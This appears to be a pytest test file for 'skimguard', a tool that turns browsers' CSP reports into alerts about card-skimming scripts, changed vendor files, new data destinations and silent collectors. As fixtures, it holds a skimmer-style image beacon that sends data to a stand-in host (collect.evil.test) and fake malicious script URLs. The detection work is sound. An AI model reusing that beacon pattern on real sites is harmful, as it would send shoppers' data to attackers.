"""Telemetry findings (SG601-SG605) from hand-built report rows, and ``skimguard telemetry check``."""

from __future__ import annotations

import base64
import hashlib
import json
from datetime import datetime, timedelta
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner, Result

from skimguard.baseline.snapshot import SiteSnapshot, snapshot_from_captures
from skimguard.cli import app
from skimguard.config import load_config
from skimguard.detect.registry import rule
from skimguard.models import (
    Category,
    ChangeRule,
    Decision,
    Finding,
    InventoryItem,
    MatchType,
    ScanResult,
    ScanStatus,
    ScriptKind,
    Severity,
    origin_of,
    script_url_key,
    sha256_hex,
)
from skimguard.monitor import accept_baseline
from skimguard.store import Store
from skimguard.store.store import ReportGroup, ReportHour, StoredReport
from skimguard.telemetry import HeartbeatPolicy, heartbeat_finding, telemetry_findings
from skimguard.testing.factories import (
    APP_JS,
    APP_URL,
    NOW,
    VENDOR_JS,
    VENDOR_URL,
    brief,
    make_capture,
    make_decision,
    make_site,
)

SITE = make_site()
APP_KEY = script_url_key(APP_URL)
VENDOR_KEY = script_url_key(VENDOR_URL)
PAYMENT = "http://shop.test/checkout/payment"
CART = "http://shop.test/cart"
EVIL_JS = "https://cdn.evil.test/loader.js"
UA = "Mozilla/5.0 (X11; Linux x86_64) Chrome/156.0.0.0"
FIRST = NOW - timedelta(hours=5)
LAST = NOW - timedelta(hours=1)


def csp_hash(text: str) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


def report(
    blocked: str,
    *,
    kind: str = "csp-violation",
    directive: str = "script-src-elem",
    document: str = PAYMENT,
    digest: str = "",
    disposition: str = "enforce",
    detail: str = "",
    count: int = 3,
    first: datetime = FIRST,
    last: datetime = LAST,
    pages: tuple[str, ...] | None = None,
    samples: tuple[str, ...] = (),
    site: str = "shop",
) -> StoredReport:
    return StoredReport(
        id=1,
        site=site,
        kind=kind,
        report_type=kind,
        directive=directive,
        blocked=blocked,
        document=document,
        hash=digest,
        disposition=disposition,
        detail=detail,
        count=count,
        first_seen=first,
        last_seen=last,
        pages=(document,) if pages is None else pages,
        user_agents=(UA,),
        samples=samples,
        sources=(),
    )


def item(url: str, body: str) -> InventoryItem:
    data = body.encode()
    return InventoryItem(
        site="shop",
        key=script_url_key(url),
        kind=ScriptKind.EXTERNAL,
        url=url,
        origin=origin_of(url),
        sha256=sha256_hex(data),
        size=len(data),
        first_seen=NOW - timedelta(days=30),
        last_seen=NOW - timedelta(days=1),
        pages=("payment",),
    )


INVENTORY = (item(APP_URL, APP_JS), item(VENDOR_URL, VENDOR_JS))
DECISIONS = (
    make_decision(APP_KEY, id=1, pinned_sha256=sha256_hex(APP_JS.encode())),
    make_decision(VENDOR_KEY, id=2, pinned_sha256=sha256_hex(VENDOR_JS.encode())),
)
BASELINE = snapshot_from_captures("shop", [make_capture()])


def find(
    *reports: StoredReport,
    inventory: tuple[InventoryItem, ...] = INVENTORY,
    decisions: tuple[Decision, ...] = DECISIONS,
    baseline: SiteSnapshot | None = BASELINE,
    activity: tuple[ReportHour, ...] = (),
) -> list[Finding]:
    return telemetry_findings(SITE, reports, inventory, decisions, baseline, activity, NOW)


# ---- SG601 -------------------------------------------------------------------------------------


def test_sg601_a_script_source_the_inventory_does_not_know() -> None:
    findings = find(report(EVIL_JS))
    assert brief(findings) == [("SG601", "high", "/checkout/payment", EVIL_JS)]
    f = findings[0]
    assert f.category is Category.TELEMETRY
    assert f.title == f"New script source reported by shoppers: {EVIL_JS}"
    assert f.script_url == EVIL_JS
    assert f.first_seen == FIRST
    assert f.evidence == {
        "inventory": "absent",
        "authorization": f"no decision covers {EVIL_JS}",
        "directives": ["script-src-elem"],
        "disposition": ["enforce"],
        "first_seen": FIRST.isoformat(),
        "_count": 3,
        "_last_seen": LAST.isoformat(),
        "_sample_pages": [PAYMENT],
        "_user_agents": [UA],
    }


def test_sg601_unapproved_inventory_script_blob_and_approval_silences() -> None:
    other = "http://shop.test/static/promo.js"
    inventory = (*INVENTORY, item(other, "promo()"))
    rows = (report(other), report("blob"), report(VENDOR_URL))  # the vendor script is approved: a stale policy
    findings = find(*rows, inventory=inventory)
    assert brief(findings) == [
        ("SG601", "high", "/checkout/payment", "blob:"),
        ("SG601", "high", "/checkout/payment", other),
    ]
    assert findings[1].evidence["inventory"] == "unapproved"
    approved = (*DECISIONS, make_decision(other, id=3, pinned_sha256=sha256_hex(b"promo()")))
    assert brief(find(*rows, inventory=inventory, decisions=approved)) == [
        ("SG601", "high", "/checkout/payment", "blob:")
    ]


# ---- SG602 -------------------------------------------------------------------------------------


def test_sg602_the_approved_file_changed_for_shoppers_is_critical() -> None:
    tampered = csp_hash(VENDOR_JS + "new Image().src='//collect.evil.test/?'+x;")
    rows = (
        report(VENDOR_URL, kind="csp-hash", directive="", digest=csp_hash(VENDOR_JS), detail="script"),
        report(VENDOR_URL, kind="csp-hash", directive="", digest=tampered, detail="script"),
        report(APP_URL, kind="csp-hash", directive="", digest="", detail="script"),  # no CORS: no hash
    )
    findings = find(*rows)
    assert brief(findings) == [("SG602", "critical", "/checkout/payment", f"{VENDOR_KEY} {tampered}")]
    evidence = findings[0].evidence
    assert evidence["hash"] == tampered
    assert evidence["sha256"] == base64.b64decode(tampered[7:]).hex()
    assert evidence["url_approved"] is True
    assert evidence["authorization"].startswith("URL pinned to ")
    # Approving the new bytes by hash silences it.
    by_hash = make_decision(evidence["sha256"], match=MatchType.HASH, id=3)
    assert find(*rows, decisions=(*DECISIONS, by_hash)) == []


def test_sg602_review_rule_unapproved_url_and_unknown_script_with_a_hash() -> None:
    changed = csp_hash(VENDOR_JS + "//v2")
    review = (DECISIONS[0], make_decision(VENDOR_KEY, id=2, change_rule=ChangeRule.REVIEW, pinned_sha256="ab" * 32))
    assert brief(find(report(VENDOR_URL, kind="csp-hash", directive="", digest=changed), decisions=review)) == [
        ("SG602", "high", "/checkout/payment", f"{VENDOR_KEY} {changed}")
    ]
    # In the inventory but never approved: high.
    assert brief(find(report(VENDOR_URL, kind="csp-hash", directive="", digest=changed), decisions=DECISIONS[:1])) == [
        ("SG602", "high", "/checkout/payment", f"{VENDOR_KEY} {changed}")
    ]
    # Nobody knows the script: a new script source, its violation and its hash report are one finding.
    evil = csp_hash("steal()")
    findings = find(report(EVIL_JS), report(EVIL_JS, kind="csp-hash", directive="", digest=evil, count=2))
    assert brief(findings) == [("SG601", "high", "/checkout/payment", EVIL_JS)]
    assert findings[0].evidence["hash"] == evil
    assert findings[0].evidence["_count"] == 5


# ---- SG603 -------------------------------------------------------------------------------------


def test_sg603_new_destinations_and_their_severity() -> None:
    rows = (
        report("http://collect.evil.test/px.gif", directive="img-src", document=CART),
        report("https://collect.evil.test/c", directive="connect-src"),  # the payment page is a card page
        report("https://forms.evil.test/post", directive="form-action", document=CART),
        report("https://pay.psp.test/charge", directive="form-action"),  # a payment host
        report("https://cdn.vendor.test/ping", directive="connect-src"),  # in the baseline
        report("https://static.shop.test/a.png", directive="img-src"),  # the site's own
    )
    findings = find(*rows)
    assert brief(findings) == [
        ("SG603", "critical", "/cart", "forms.evil.test"),
        ("SG603", "critical", "/checkout/payment", "collect.evil.test"),
        ("SG603", "high", "/cart", "collect.evil.test"),
    ]
    assert findings[1].destination == "https://collect.evil.test/c"
    assert findings[1].title == "New destination reported by shoppers: collect.evil.test"
    assert findings[1].evidence["baseline_page"] == "payment"
    assert findings[1].evidence["card_page"] is True
    assert findings[2].evidence["card_page"] is False
    # Without a baseline the card page is unknown and the vendor CDN is new too.
    assert brief(find(*rows[1:2], rows[4], baseline=None)) == [
        ("SG603", "high", "/checkout/payment", "cdn.vendor.test"),
        ("SG603", "high", "/checkout/payment", "collect.evil.test"),
    ]


# ---- SG604 -------------------------------------------------------------------------------------


def test_sg604_inline_script_with_its_sample() -> None:
    rows = (
        report("inline", samples=('var s=document.createElement("script"', "x")),
        report("inline", directive="script-src-attr", samples=("x",), disposition="report"),
        report("eval", directive="script-src"),  # eval is not judged
    )
    findings = find(*rows)
    assert brief(findings) == [("SG604", "medium", "/checkout/payment", "inline")]
    assert findings[0].evidence["samples"] == ['var s=document.createElement("script"', "x"]
    assert findings[0].evidence["directives"] == ["script-src-attr", "script-src-elem"]
    assert findings[0].evidence["disposition"] == ["enforce", "report"]
    assert findings[0].evidence["_count"] == 6


# ---- identity, noise, bounds -------------------------------------------------------------------


def test_rows_of_one_finding_are_merged_and_page_queries_dropped() -> None:
    rows = (
        report(EVIL_JS, document="http://shop.test/order/1001/thanks", first=FIRST, last=LAST, count=2,
               pages=("http://shop.test/order/1001/thanks?email=a%40b.test",)),
        report(EVIL_JS, document="http://shop.test/order/1002/thanks", first=FIRST - timedelta(days=1),
               last=LAST + timedelta(minutes=30), count=4, disposition="report"),
    )  # fmt: skip
    findings = find(*rows)
    assert brief(findings) == [("SG601", "high", "/order/*/thanks", EVIL_JS)]
    f = findings[0]
    assert f.first_seen == FIRST - timedelta(days=1)
    assert f.evidence["_count"] == 6
    assert f.evidence["_last_seen"] == (LAST + timedelta(minutes=30)).isoformat()
    assert f.evidence["_sample_pages"] == [
        "http://shop.test/order/1001/thanks?email=",
        "http://shop.test/order/1002/thanks",
    ]
    assert f.evidence["disposition"] == ["enforce", "report"]


def test_foreign_pages_other_sites_and_other_kinds_are_ignored() -> None:
    rows = (
        report(EVIL_JS, document="https://clone.evil.test/checkout"),
        report(EVIL_JS, site="other"),
        report("https://shop.test/app.js", kind="integrity-violation", directive=""),
        report("", kind="deprecation", directive="", detail="XMLHttpRequestSynchronous"),
        report("self", directive="script-src-elem"),
    )
    assert find(*rows) == []


def test_count_growth_is_not_a_change_of_substance() -> None:
    once = find(report(EVIL_JS, count=3))[0]
    later = find(report(EVIL_JS, count=300, last=NOW, pages=(PAYMENT, CART)))[0]
    assert once.fingerprint == later.fingerprint
    assert once.content_hash == later.content_hash


def test_rules_are_registered() -> None:
    assert rule("SG604").severity is Severity.MEDIUM
    assert rule("SG605").category is Category.TELEMETRY


# ---- SG605 heartbeat ---------------------------------------------------------------------------


def hours(
    start: datetime, count: int, per_hour: int = 10, *, step: int = 1, day_hours: range | None = None
) -> list[ReportHour]:
    out = []
    for i in range(0, count, step):
        hour = start + timedelta(hours=i)
        if day_hours is not None and hour.hour not in day_hours:
            continue
        out.append(ReportHour(site="shop", hour=hour, reports=per_hour, noise=1, last_at=hour + timedelta(minutes=50)))
    return out


def test_busy_site_gone_silent() -> None:
    start = NOW - timedelta(days=6)
    activity = hours(start, 6 * 24 - 5)  # every hour, then nothing for the last 5 hours
    last_at = start + timedelta(hours=6 * 24 - 6, minutes=50)
    finding = heartbeat_finding(SITE, activity, NOW)
    assert finding is not None
    assert brief([finding]) == [("SG605", "high", None, "heartbeat")]
    assert finding.title == f"Shoppers' browsers stopped reporting: none since {last_at:%Y-%m-%d %H:%M} UTC"
    assert finding.evidence == {
        "last_report_at": last_at.isoformat(),
        "history_hours": 139.0,
        "average_per_hour": 11.0,
        "usual_gap_hours": 1.0,
        "threshold_hours": 3.0,
        "why": "the anti-skimming measure may have been removed: the CSP header or the collector endpoint",
        "_silent_for_hours": 5.2,
    }
    later = heartbeat_finding(SITE, activity, NOW + timedelta(hours=6))
    assert later is not None and later.content_hash == finding.content_hash  # no re-alert every check
    assert heartbeat_finding(SITE, activity, last_at + timedelta(hours=2, minutes=59)) is None
    # Through telemetry_findings, with the other findings.
    assert brief(find(report("inline"), activity=tuple(activity))) == [
        ("SG605", "high", None, "heartbeat"),
        ("SG604", "medium", "/checkout/payment", "inline"),
    ]


def test_quiet_short_and_nightly_histories_do_not_alarm() -> None:
    start = NOW - timedelta(days=7)
    assert heartbeat_finding(SITE, [], NOW) is None
    quiet = hours(start, 7 * 24 - 30, per_hour=1, step=6)  # a report every 6 hours: 1/3 an hour on average
    assert heartbeat_finding(SITE, quiet, NOW) is None
    short = hours(NOW - timedelta(hours=40), 30)  # busy, but only 30 hours of history
    assert heartbeat_finding(SITE, short, NOW) is None
    # Busy 08-20 every day, silent at night: the nightly gap is usual, a night is no alarm...
    nightly = hours(start.replace(hour=0), 7 * 24, day_hours=range(8, 20))
    night = start.replace(hour=0) + timedelta(days=6, hours=23)
    assert heartbeat_finding(SITE, [a for a in nightly if a.hour < night], night + timedelta(hours=4)) is None
    # ...but two days without a report is.
    silent = heartbeat_finding(SITE, [a for a in nightly if a.hour < night], night + timedelta(hours=48))
    assert silent is not None and silent.evidence["usual_gap_hours"] == 13.0
    # Thresholds are configurable.
    strict = HeartbeatPolicy(min_reports_per_hour=0.1)
    assert heartbeat_finding(SITE, quiet, NOW + timedelta(days=2), strict) is not None


# ---- the command -------------------------------------------------------------------------------


def run(*args: str) -> Result:
    return CliRunner().invoke(app, list(args), env={"SKIMGUARD_CONFIG": None})


def write_config(tmp_path: Path) -> Path:
    path = tmp_path / "skimguard.yaml"
    data = {
        "version": 1,
        "database": f"sqlite:///{tmp_path / 'sg.db'}",
        "sites": [
            {
                "name": "shop",
                "base_url": "http://shop.test/",
                "payment_hosts": ["pay.psp.test"],
                "journeys": [{"name": "checkout", "steps": [{"goto": "/cart", "page": "cart"}]}],
            }
        ],
    }
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    return path


@pytest.fixture
def cfg(tmp_path: Path) -> Path:
    path = write_config(tmp_path)
    config = load_config(path)
    capture = make_capture()
    old = rule("SG102").finding("shop", page="payment", subject=VENDOR_KEY)
    with Store.open(config.database_url) as store:
        store.finish_scan(
            ScanResult("shop", "20240501T120000Z-a1b2c3", capture.started_at, capture.finished_at,
                       ScanStatus.OK, (capture,), (old,))
        )  # fmt: skip
        accept_baseline(store, config.site("shop"), scan_id=None, actor="alice", note="clean")
        for key, body in ((APP_KEY, APP_JS), (VENDOR_KEY, VENDOR_JS)):
            sha = sha256_hex(body.encode())
            store.add_decision("shop", MatchType.URL, key, "ours", "ec-team", "alice", ChangeRule.PIN, sha)
        keys = [
            ("csp-violation", "csp-violation", "script-src-elem", EVIL_JS, PAYMENT, "", "enforce", ""),
            (
                "csp-violation",
                "csp-violation",
                "connect-src",
                "https://collect.evil.test/c",
                PAYMENT,
                "",
                "enforce",
                "",
            ),
            ("csp-hash", "csp-hash", "", VENDOR_URL, PAYMENT, csp_hash(VENDOR_JS), "", "script"),
        ]
        store.record_reports(
            [ReportGroup("shop", key, 2, pages=(PAYMENT,), user_agents=(UA,)) for key in keys],
            {"shop": (6, 0)},
            at=datetime.now(NOW.tzinfo) - timedelta(minutes=10),
        )
    return path


def test_check_stores_alerts_and_exits_like_scan(cfg: Path) -> None:
    result = run("telemetry", "check", "-c", str(cfg), "--format", "json", "--no-alerts")
    assert result.exit_code == 1, (result.stdout, result.stderr)
    data = json.loads(result.stdout)
    assert data["schema"] == "skimguard.telemetry/1"
    (site,) = data["sites"]
    assert site["site"] == "shop" and site["scan_id"].startswith("telemetry-")
    assert [(f["rule_id"], f["severity"], f["page"], f["subject"]) for f in site["findings"]] == [
        ("SG603", "critical", "/checkout/payment", "collect.evil.test"),
        ("SG601", "high", "/checkout/payment", EVIL_JS),
    ]
    assert site["findings"][1]["evidence"]["_count"] == 2

    with Store.open(load_config(cfg).database_url) as store:
        scan = store.scan(site["scan_id"])
        assert scan is not None and scan.status == "failed"
        stored = store.findings("shop")
        assert sorted(s.finding.rule_id for s in stored) == ["SG102", "SG601", "SG603"]  # SG102 still open
        # `baseline accept` still takes the real scan, not the telemetry one.
        _, accepted = accept_baseline(store, load_config(cfg).site("shop"), scan_id=None, actor="bob", note="again")
        assert accepted == "20240501T120000Z-a1b2c3"

    again = run("telemetry", "check", "-c", str(cfg), "--fail-on", "critical", "--site", "shop")
    assert again.exit_code == 1, (again.stdout, again.stderr)
    assert "nothing new to store" in again.stdout  # alerted to the console sink, not stored twice
    assert "SG603" in again.stdout
    with Store.open(load_config(cfg).database_url) as store:
        assert [s.id for s in store.scans("shop")] == [site["scan_id"], "20240501T120000Z-a1b2c3"]
        finding = next(s for s in store.findings("shop") if s.finding.rule_id == "SG603")
        alert = store.last_alert(finding.fingerprint, "console")
        assert alert is not None and alert.ok


def test_check_heartbeat_approval_and_errors(cfg: Path, tmp_path: Path) -> None:
    with Store.open(load_config(cfg).database_url) as store:
        store.add_decision("shop", MatchType.URL, script_url_key(EVIL_JS), "ok", "ec", "alice", ChangeRule.ALLOW, None)
    result = run("telemetry", "check", "-c", str(cfg), "--no-alerts", "-f", "json")
    assert result.exit_code == 1, (result.stdout, result.stderr)
    rules = [f["rule_id"] for f in json.loads(result.stdout)["sites"][0]["findings"]]
    assert rules == ["SG603"]  # the script is approved now; reports came 10 minutes ago: no silence

    (tmp_path / "silent").mkdir()
    silent = write_config(tmp_path / "silent")
    now = datetime.now(NOW.tzinfo).replace(minute=0, second=0, microsecond=0)
    with Store.open(load_config(silent).database_url) as store:
        for i in range(72, 4, -1):  # three days of hourly reports, none for the last 4 hours
            store.record_reports([], {"shop": (5, 0)}, at=now - timedelta(hours=i))
    beat = run("telemetry", "check", "-c", str(silent), "--no-alerts", "--fail-on", "critical", "-f", "json")
    assert beat.exit_code == 0, (beat.stdout, beat.stderr)  # SG605 is high, below --fail-on critical
    findings = json.loads(beat.stdout)["sites"][0]["findings"]
    assert [(f["rule_id"], f["severity"], f["subject"]) for f in findings] == [("SG605", "high", "heartbeat")]
    assert findings[0]["evidence"]["usual_gap_hours"] == 1.0
    lenient = run("telemetry", "check", "-c", str(silent), "--no-alerts", "--floor", "12")
    assert lenient.exit_code == 0 and "0 finding(s)" in lenient.stdout

    bad = run("telemetry", "check", "-c", str(cfg), "--site", "nope")
    assert bad.exit_code == 2 and bad.stderr.startswith("skimguard: error: no site named 'nope'")


def test_scans_listing_tells_telemetry_checks_from_scans(cfg: Path) -> None:
    checked = run("telemetry", "check", "-c", str(cfg), "--format", "json", "--no-alerts")
    assert checked.exit_code == 1, (checked.stdout, checked.stderr)
    telemetry_id = json.loads(checked.stdout)["sites"][0]["scan_id"]
    listed = run("scans", "-c", str(cfg), "--format", "json")
    assert listed.exit_code == 0, (listed.stdout, listed.stderr)
    data = json.loads(listed.stdout)
    assert data["schema"] == "skimguard.scans/1"
    assert [(s["scan_id"], s["kind"], s["site"], s["status"]) for s in data["scans"]] == [
        (telemetry_id, "telemetry", "shop", "failed"),  # stored as failed so it never counts as a capture
        ("20240501T120000Z-a1b2c3", "scan", "shop", "ok"),
    ]
    table = run("scans", "-c", str(cfg))
    assert table.exit_code == 0, (table.stdout, table.stderr)
    cells = [
        [cell.strip() for cell in line.strip("│ ").split("│")] for line in table.stdout.splitlines() if "shop" in line
    ]
    assert [(c[0], c[1], c[2], c[4]) for c in cells] == [  # c[3] is the start time
        (telemetry_id, "telemetry", "shop", "-"),
        ("20240501T120000Z-a1b2c3", "scan", "shop", "ok"),
    ]
